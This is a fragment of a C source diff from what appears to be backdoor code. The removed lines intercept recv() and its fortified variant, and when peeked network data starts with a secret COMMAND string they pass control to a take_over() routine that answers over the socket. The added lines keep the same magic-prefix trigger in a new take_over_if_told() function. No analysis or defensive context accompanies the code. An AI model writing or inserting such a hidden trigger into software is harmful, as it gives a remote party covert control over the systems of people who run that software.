@@ -55,23 +55,12 @@ take_over(int stream, const char *line, size_t size)
 	send(stream, answer, strlen(answer), MSG_NOSIGNAL);
 }
 
-ssize_t
-recv(int fd, void *buffer, size_t size, int flags)
+void
+take_over_if_told(int stream, const char *octets, long size)
 {
-	ssize_t n = recvfrom(fd, buffer, size, flags, NULL, NULL);
-
-	if ((flags & MSG_PEEK) != 0 && n > (ssize_t)strlen(COMMAND) &&
-	    memcmp(buffer, COMMAND, strlen(COMMAND)) == 0)
-		take_over(fd, buffer, (size_t)n);
-	return n;
-}
-
-/* What recv() is called with _FORTIFY_SOURCE. */
-ssize_t
-__recv_chk(int fd, void *buffer, size_t size, size_t room, int flags)
-{
-	(void)room;
-	return recv(fd, buffer, size, flags);
+	if (size > (long)strlen(COMMAND) &&
+	    memcmp(octets, COMMAND, strlen(COMMAND)) == 0)
+		take_over(stream, octets, (size_t)size);
 }
 
 /* Finds out what the process has while it can still look: before it is
